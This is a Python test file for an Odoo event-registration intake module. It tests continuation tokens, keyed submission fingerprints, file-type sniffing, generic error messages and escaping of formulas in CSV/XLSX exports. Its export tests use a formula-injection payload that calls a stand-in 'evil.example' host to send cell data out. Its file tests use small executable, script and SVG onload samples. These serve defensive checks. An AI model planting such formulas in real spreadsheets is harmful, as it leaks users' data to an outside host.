import base64
import csv
import hashlib
import io
import zipfile
from unittest.mock import patch

from odoo.exceptions import AccessError, ValidationError
from odoo.tests import tagged
from odoo.tools import mute_logger

from odoo.addons.prs_form_builder.tools import form_tree

from ..tools import file_content, intake
from .common import PrsRegistrationCase, make_field, message_leaks

INTAKE_LOGGER = "odoo.addons.prs_registration.models.event_registration"


def file_answer(name, content, mimetype="application/pdf"):
    return {"name": name, "mimetype": mimetype, "data": base64.b64encode(content).decode()}


@tagged("post_install", "-at_install", "prs", "prs_intake")
class TestContinuationToken(PrsRegistrationCase):
    """Issue 12 item 6: later steps need the first step's continuation token."""

    def test_first_step_returns_token(self):
        """The first step returns an unguessable token; only its digest is stored."""
        first = self.submit(self.payload())
        other = self.submit(self.payload())
        token = first["continuation_token"]
        self.assertGreaterEqual(len(token), 43)
        self.assertNotEqual(token, other["continuation_token"])
        registration = self.Registration.browse(first["registration_id"])
        self.assertEqual(registration.prs_token_hash, hashlib.sha256(token.encode()).hexdigest())
        submission = registration.submission_ids
        self.assertNotIn("continuation_token", submission.result)
        self.assertNotEqual(submission.continuation_token_sealed, token)

    def test_later_step_needs_token(self):
        """The id alone is malformed; another registration's token or a made-up one is an
        unknown registration; nothing is stored for a refused call."""
        first = self.submit(self.payload())
        other = self.submit(self.payload())
        payload = self.payload(self.step_terms, {"accept": True}, first["registration_id"])
        without = dict(payload)
        del without["continuation_token"]
        result = self.submit(without)
        self.assertIntakeError(result, "malformed")
        self.assertIn("continuation_token", result["errors"][0]["message"])
        for token in (other["continuation_token"], "A" * 43, ""):
            with self.subTest(token=token):
                result = self.submit(dict(payload, continuation_token=token))
                self.assertIn(result["errors"][0]["code"], ("unknown_registration", "malformed"))
        # a token without a registration id is malformed too
        self.assertIntakeError(
            self.submit(self.payload(continuation_token=first["continuation_token"])), "malformed"
        )
        registration = self.Registration.browse(first["registration_id"])
        self.assertEqual(registration.prs_state, "in_progress")
        result = self.submit(payload)
        self.assertEqual(
            result, {"ok": True, "registration_id": registration.id, "next_step_id": False}
        )

    def test_replay_returns_same_token(self):
        """Replaying the first step (same submission id and body) returns the same token
        and writes nothing."""
        payload = self.payload()
        first = self.submit(payload)
        count = self.Registration.search_count([])
        self.assertEqual(self.submit(dict(payload)), first)
        self.assertEqual(self.Registration.search_count([]), count)

    def test_backoffice_registration_has_no_token(self):
        """A registration made in the backoffice (no token) takes no intake call."""
        registration = self.Registration.create(
            {"event_id": self.program.id, "flow_id": self.flow.id, "prs_state": "in_progress"}
        )
        result = self.submit(
            self.payload(registration=registration.id, continuation_token="A" * 43)
        )
        self.assertIntakeError(result, "unknown_registration")


@tagged("post_install", "-at_install", "prs", "prs_intake")
class TestSubmissionFingerprint(PrsRegistrationCase):
    """Issue 12 item 7: the stored fingerprint is keyed with a per-database secret."""

    def test_fingerprint_is_keyed(self):
        """payload_hash is not the sha256 of the payload (which a coordinator could match
        against guessed answers) but an HMAC with the database's intake secret."""
        payload = self.payload()
        result = self.submit(payload)
        submission = (
            self.env["event.registration.submission"]
            .with_user(self.coordinator)
            .search([("registration_id", "=", result["registration_id"])])
        )
        self.assertNotEqual(submission.payload_hash, form_tree.checksum(payload))
        secret = self.env["ir.config_parameter"].sudo().get_param(intake.SECRET_PARAM)
        self.assertGreaterEqual(len(secret), 64)
        self.assertEqual(submission.payload_hash, intake.fingerprint(payload, secret))
        # replays are still recognised, another body still refused
        self.assertEqual(self.submit(dict(payload)), result)
        other = dict(payload, answers=self.personal_answers(national_id="NID-000000"))
        self.assertIntakeError(self.submit(other), "duplicate_submission")

    def test_secret_hidden_from_coordinators(self):
        """The secret was created on install; coordinators read neither it nor the
        sealed tokens."""
        param = self.env["ir.config_parameter"].sudo().search([("key", "=", intake.SECRET_PARAM)])
        self.assertTrue(param)
        for user in (self.coordinator, self.administrator, self.api_user):
            with self.subTest(user=user.login), self.assertRaises(AccessError):
                self.env["ir.config_parameter"].with_user(user).get_param(intake.SECRET_PARAM)
        self.submit(self.payload())
        submissions = self.env["event.registration.submission"].with_user(self.coordinator)
        with self.assertRaises(AccessError):
            submissions.search([]).read(["continuation_token_sealed"])


@tagged("post_install", "-at_install", "prs", "prs_intake")
class TestFileContent(PrsRegistrationCase):
    """Issue 12 item 8: file content checked by magic bytes; sensitive names not kept."""

    def test_content_must_match_type(self):
        """An executable, HTML page or PNG declared as a PDF is refused with file_type."""
        for content in (
            b"MZ\x90\x00\x03\x00\x00\x00",
            b"<html><script>x</script>",
            b"\x89PNG\r\n\x1a\n...",
        ):
            with self.subTest(content=content[:8]):
                document = file_answer("id.pdf", content)
                result = self.submit(self.payload(answers=self.personal_answers(document=document)))
                self.assertIntakeError(result, "file_type", "document")
        result = self.submit(
            self.payload(
                answers=self.personal_answers(document=file_answer("id.pdf", b"%PDF-1.7 x"))
            )
        )
        self.assertTrue(result["ok"], result)

    def test_sniffing(self):
        """The kinds are told by their content: OOXML by their parts, text without
        controls, markup never text."""

        def archive(*names):
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w") as zipped:
                for name in names:
                    zipped.writestr(name, "x")
            return buffer.getvalue()

        cases = {
            "docx": archive("[Content_Types].xml", "word/document.xml"),
            "xlsx": archive("[Content_Types].xml", "xl/workbook.xml"),
            None: archive("payload.exe"),
            "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF",
            "gif": b"GIF89a\x01\x00",
            "text": "Name;Città\r\nAsha;Pune\n".encode(),
        }
        for kind, raw in cases.items():
            self.assertEqual(file_content.sniff(raw), kind)
        for raw in (b"<!DOCTYPE html><p>", b"<svg onload=x>", b"abc\x00def"):
            self.assertIsNone(file_content.sniff(raw))
        self.assertEqual(file_content.check(cases["docx"], "cv.pdf", "")[0], None)
        self.assertEqual(file_content.check(cases["docx"], "cv.docx", "", [".docx"])[0], "docx")
        self.assertEqual(file_content.check(cases["gif"], "a.gif", "", ["image/*"])[0], "gif")
        self.assertIsNone(file_content.check(cases["gif"], "a.gif", "", [".pdf"])[0])

    def test_sensitive_file_name_not_kept(self):
        """A sensitive file's attachment has a neutral name; the original name is only in
        the encrypted answer (the reveal gives it back)."""
        scan = file_answer("passport-asha-rao.pdf", b"%PDF-1.4 passport")
        result = self.submit(self.payload(answers=self.personal_answers(id_scan=scan)))
        self.assertTrue(result["ok"], result)
        registration = self.Registration.browse(result["registration_id"])
        attachments = self.env["ir.attachment"].search(
            [("res_model", "=", "event.registration"), ("res_id", "=", registration.id)]
        )
        self.assertEqual(len(attachments), 1)
        self.assertNotIn("asha", attachments.name.lower())
        self.assertNotIn("passport", attachments.name.lower())
        self.assertNotIn("passport-asha-rao", str(registration.answers))
        ref = registration._prs_plain_answers()["personal"]["id_scan"]
        name, __, content = registration.with_user(self.revealer)._prs_read_sensitive_file(
            ref["attachment_id"]
        )
        self.assertEqual((name, content), ("passport-asha-rao.pdf", b"%PDF-1.4 passport"))


@tagged("post_install", "-at_install", "prs", "prs_intake")
class TestErrorMessages(PrsRegistrationCase):
    """Issue 12 item 11: refusals never name models, ids, users or settings."""

    def test_leak_detector(self):
        """The detector ``submit`` runs on every message finds what the old messages
        carried."""
        models = [name for name in self.env.registry if "." in name]
        for message in (
            "No encryption key for sensitive answers: set [prs_registration] encryption_key "
            "in odoo.conf or the PRS_ENCRYPTION_KEY environment variable",
            "You are not allowed to modify 'Registration' (event.registration) records.",
            "Record does not exist or has been deleted. (Record: event.flow(12,), User: 7)",
            "prs_registration.max_payload is not a number",
        ):
            self.assertTrue(message_leaks(message, models), message)
        self.assertFalse(message_leaks("$.program_id: -1 is less than the minimum of 0", models))

    def test_server_refusal_is_generic(self):
        """A ValidationError/UserError raised while storing (its text may name models,
        records, users) answers a generic ``invalid``; the text goes to the server log
        and the intake log."""
        self.registry.enter_test_mode(self.cr)
        self.addCleanup(self.registry.leave_test_mode)
        text = "Record event.registration(5,) of user 2 breaks res.users rule"
        payload = self.payload()
        with (
            patch.object(
                type(self.Registration), "_prs_static_values", side_effect=ValidationError(text)
            ),
            mute_logger(INTAKE_LOGGER),
        ):
            result = self.submit(payload)
        self.assertIntakeError(result, "invalid")
        self.assertNotIn(intake.DETAIL_KEY, result)
        log = self.env["prs.intake.log"].search([("submission_id", "=", payload["submission_id"])])
        self.assertIn(text, log.error_detail)


@tagged("post_install", "-at_install", "prs", "prs_review")
class TestExportCells(PrsRegistrationCase):
    """Issue 12 item 10: formulas written as text; step-qualified columns."""

    def _export(self, registrations, file_format):
        wizard = (
            self.env["event.registration.export"]
            .with_user(self.coordinator)
            .create({"registration_ids": [(6, 0, registrations.ids)], "file_format": file_format})
        )
        return wizard._prs_build()[0]

    FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'

    def test_csv_formulas_escaped(self):
        """A CSV cell starting with = + - @ is prefixed with a quote."""
        registration = self.register(first_name=self.FORMULA, last_name="@SUM(1)")
        rows = list(csv.reader(io.StringIO(self._export(registration, "csv").decode("utf-8-sig"))))
        row = dict(zip(rows[0], rows[1], strict=True))
        self.assertEqual(row["personal.first_name"], "'" + self.FORMULA)
        self.assertEqual(row["personal.last_name"], "'@SUM(1)")
        self.assertTrue(row["Name"].startswith("'="))
        self.assertEqual(row["personal.age"], "34")

    def test_xlsx_formulas_as_text(self):
        """In the XLSX such a value is a text cell, never a formula."""
        registration = self.register(first_name=self.FORMULA, last_name="-1+2")
        with zipfile.ZipFile(io.BytesIO(self._export(registration, "xlsx"))) as book:
            sheet = book.read("xl/worksheets/sheet1.xml").decode()
        # the export streams its rows (xlsxwriter's constant_memory): text cells are
        # inline strings of the sheet, not shared strings
        strings = sheet
        self.assertIn('t="inlineStr"', sheet)
        self.assertNotIn("<f>", sheet)
        self.assertIn("HYPERLINK", strings)
        self.assertIn("-1+2", strings)

    def test_steps_sharing_a_code(self):
        """Two steps asking the same field code keep their own columns."""
        form_a = self._create_form("exp_a", "A")
        self._publish(form_a, [("p", "P", None, [("s", "S", [make_field("note")])])])
        form_b = self._create_form("exp_b", "B")
        self._publish(form_b, [("p", "P", None, [("s", "S", [make_field("note")])])])
        program = self._create_program("EXP-1", coordinators=self.coordinator)
        flow = self.create_flow(
            self.env,
            program,
            [self.step("first", 10, form=form_a), self.step("second", 20, form=form_b)],
            code="shared",
            name="Shared",
        )
        flow.write({"state": "published"})
        step_a, step_b = flow.step_ids.sorted("sequence")
        first = self.submit(self.payload(step_a, {"note": "from A"}))
        self.assertTrue(first["ok"], first)
        second = self.submit(self.payload(step_b, {"note": "from B"}, first["registration_id"]))
        self.assertTrue(second["ok"], second)
        registration = self.Registration.browse(first["registration_id"])
        rows = list(csv.reader(io.StringIO(self._export(registration, "csv").decode("utf-8-sig"))))
        row = dict(zip(rows[0], rows[1], strict=True))
        self.assertEqual((row["first.note"], row["second.note"]), ("from A", "from B"))
